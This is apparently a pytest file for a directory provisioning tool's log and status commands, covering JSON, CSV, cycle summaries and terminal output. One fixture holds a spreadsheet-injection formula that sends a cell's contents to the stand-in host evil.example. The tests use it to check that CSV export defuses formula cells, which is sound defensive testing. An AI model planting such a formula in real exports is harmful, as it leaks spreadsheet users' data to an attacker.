"""The provisioning log for people, programs and spreadsheets."""

import csv
import json
import os
import pty
import re
import subprocess
import sys
from pathlib import Path
from typing import get_args

import pytest

from provisioner.adapters.ids import SeededIds
from provisioner.adapters.store_sql import open_store
from provisioner.cli.csv_lines import csv_lines
from provisioner.cli.logs import Action, Status
from provisioner.engine.record import _STATUS
from provisioner.model import outcome
from provisioner.model.state import CycleRow
from provisioner.sandbox import Sandbox, SandboxServer
from tests.command import CONFIG, Result, directory, environment, person, provisioner
from tests.engine.worlds import NOON

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click, please")'
ADA = "=ada@contoso.example"
PEOPLE = [person(1, userPrincipalName=ADA, givenName=FORMULA), person(2), person(3, accountEnabled=False)]


@pytest.fixture(scope="module")
def history(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Two cycles: two people created (one under a formula), one skipped; then one promoted and one refused."""
    folder = tmp_path_factory.mktemp("history")
    with SandboxServer(Sandbox("real-links", token="s3cret")) as server:
        directory(folder / "directory", PEOPLE)
        run(folder, server.url, "2026-01-01T00:00Z")
        directory(folder / "directory", [{**PEOPLE[0], "jobTitle": "+1 Director"}, *PEOPLE[1:], person(4)])
        server.sandbox.set_faults(["error-on=5:500"])
        result = run(folder, server.url, "2026-01-02T00:00Z")
        assert result.code == 3, result
    return folder


def run(folder: Path, url: str, now: str) -> Result:
    return provisioner(
        *("run", CONFIG / "real-links.toml", "--url", url, "--snapshot", folder / "directory"),
        *("--state", folder / "state.db", "--now", now),
    )


def logs(folder: Path, *more: object) -> Result:
    return provisioner("logs", CONFIG / "real-links.toml", "--state", folder / "state.db", *more)


def test_json_lines_are_the_records_one_a_line(history):
    """The same documents as --json, in the same order, each on its own line."""
    lines = [json.loads(line) for line in logs(history, "--jsonl").out.splitlines()]
    assert lines == logs(history, "--json").document
    assert len(lines) == 5


def test_csv_is_whole_and_holds_no_formula(history):
    """Every entry is a row; a name that a spreadsheet would run stands there as text, with its commas and quotes."""
    result = logs(history, "--csv")
    rows = list(csv.DictReader(result.out.splitlines()))
    assert [row["action"] for row in rows].count("create") == 3
    assert len(rows) == 5
    created = next(row for row in rows if row["action"] == "create")
    assert created["name"] == f"'{ADA}"
    assert FORMULA in created["changes"]
    cells = [cell for row in csv.reader(result.out.splitlines()) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_a_cell_that_begins_like_a_formula_is_text(start):
    """OWASP, CSV Injection: an apostrophe before it; whatever else is in the cell survives."""
    cell = f'{start}1+1, "two"'
    written = "".join(csv_lines(("name", "count"), [(cell, 3), ("plain", None)]))
    assert list(csv.reader(written.splitlines(keepends=True)))[1:] == [[f"'{cell}", "3"], ["plain", ""]]


def test_cycles_are_summed_up_with_times_and_counts(history):
    """One row a cycle, oldest first: what it did, how long it took, how many requests it sent (E105)."""
    first, second = logs(history, "--cycles", "--json").document
    assert (first["kind"], first["status"], first["counts"]["create"], first["counts"]["skip"]) == (
        *("initial", "succeeded", 2, 1),
    )
    assert second["counts"]["fail"] == 1
    assert first["seconds"] >= 0
    assert first["requests"] == second["requests"] == 5
    lines = provisioner(
        *("logs", CONFIG / "real-links.toml", "--state", history / "state.db", "--cycles"), COLUMNS="80"
    ).out.splitlines()
    assert len(lines) == 2, "one line a cycle, however narrow the window"
    assert "initial" in lines[0]
    assert "2026-01-02 00:00:00" in lines[1]
    assert "5 requests; 2 of 2 objects: 1 update, 1 fail" in lines[1]
    (row,) = csv.DictReader(logs(history, "--cycles", "--csv", "--cycle", "1").out.splitlines())
    assert (row["number"], row["create"], row["fail"]) == ("1", "2", "0")


def test_what_the_log_does_not_hold_is_said(history):
    """An empty answer is no mistake, and people see that it is one; programs get an empty list."""
    nobody = logs(history, "--user", "nobody@contoso.example")
    assert (nobody.code, nobody.out) == (0, "")
    assert "no such entry" in nobody.err
    assert logs(history, "--user", "nobody@contoso.example", "--json").document == []


def test_every_action_and_status_of_the_log_can_be_asked_for():
    """What the engine writes and what the options take are the same words."""
    assert set(get_args(Action)) == {action.value for action in outcome.Action}
    assert set(get_args(Status)) == {*_STATUS.values(), "warning"}


def test_a_cycle_that_was_killed_does_not_run_for_ever(tmp_path):
    """With another one after it, it is told as interrupted."""
    with open_store(str(tmp_path / "state.db"), job="real-links", ids=SeededIds(0)) as store:
        store.begin_cycle(CycleRow(1, "c1", "initial", NOON))
        store.begin_cycle(CycleRow(2, "c2", "initial", NOON))
    rows = logs(tmp_path, "--cycles", "--json").document
    assert [row["status"] for row in rows] == ["interrupted", "running"]


def test_the_steps_of_one_person_are_told_to_the_end(history):
    """Import, scope, match, action with their details, each change, and of a failure what the target answered."""
    told = logs(history, "--user", ADA, "--steps").out
    for part in (
        "EntryImportAdd",
        "EntrySynchronizationScoping",
        "Assigned to the application: True",
        "EntryExportAdd",
    ):
        assert part in told
    assert "Engineer -> +1 Director" in told
    refused = logs(history, "--status", "failure", "--user", person(4)["userPrincipalName"], "--steps").out
    assert "responseStatus: 500" in refused


@pytest.mark.parametrize(
    "wrong",
    [
        ("--json", "--csv"),
        ("--steps",),
        ("--cycles", "--user", "x"),
        ("--since", "yesterday"),
        ("--limit", "0"),
        ("--action", "crate"),
        ("--status", "failed"),
    ],
    ids=" ".join,
)
def test_what_makes_no_sense_is_refused(history, wrong):
    """Exit 2, and nothing on standard output."""
    result = logs(history, *wrong)
    assert (result.code, result.err.count("Error:")) == (2, 1)
    assert result.out == "" or result.document["errors"]


def test_a_terminal_shows_a_table(history):
    """A line an entry, with who, what, how it ended and why, in a window of 120 columns."""
    shown = in_a_terminal("logs", CONFIG / "real-links.toml", "--state", history / "state.db")
    assert "time (UTC)" in shown
    assert "NotEffectivelyEntitled" in shown
    assert max(map(len, shown.splitlines())) <= 120


def test_a_pipe_gets_a_line_an_entry(history):
    """Where no window bounds a line, none is folded: it can be searched."""
    plain = {name: value for name, value in environment(PYTHONPATH=str(CONFIG.parent)).items() if name != "COLUMNS"}
    done = subprocess.run(
        [sys.executable, "-m", "provisioner", "logs", CONFIG / "real-links.toml", "--state", history / "state.db"],
        env=plain,
        capture_output=True,
        text=True,
        check=True,
    )
    assert len(done.stdout.splitlines()) == 1 + 5


def in_a_terminal(*arguments: object) -> str:
    """What the command writes to a terminal of 120 columns."""
    ours, theirs = pty.openpty()
    variables = environment(COLUMNS="120", TERM="xterm", PYTHONPATH=str(CONFIG.parent))
    with subprocess.Popen(
        [sys.executable, "-m", "provisioner", *map(str, arguments)], stdout=theirs, stdin=theirs, env=variables
    ):
        os.close(theirs)
        written = b"".join(_chunks(ours))
    os.close(ours)
    return re.sub(r"\x1b\[[0-9;]*m", "", written.decode()).replace("\r\n", "\n")


def _chunks(terminal: int):
    while True:
        try:
            chunk = os.read(terminal, 65536)
        except OSError:  # the other side is closed
            return
        if not chunk:
            return
        yield chunk


def test_status_tells_the_last_cycle_and_the_current_one(history):
    """E105: provisioned so far, steady state or not, times and counts of the last and the current cycle."""
    result = provisioner("status", CONFIG / "real-links.toml", "--state", history / "state.db", "--json")
    found = result.document
    assert found["provisioned"] == {"users": 2, "groups": 0}
    assert found["currentCycle"] is None
    assert (found["lastCycle"]["number"], found["lastCycle"]["counts"]["fail"]) == (2, 1)
    assert found["lastCycle"]["seconds"] >= 0
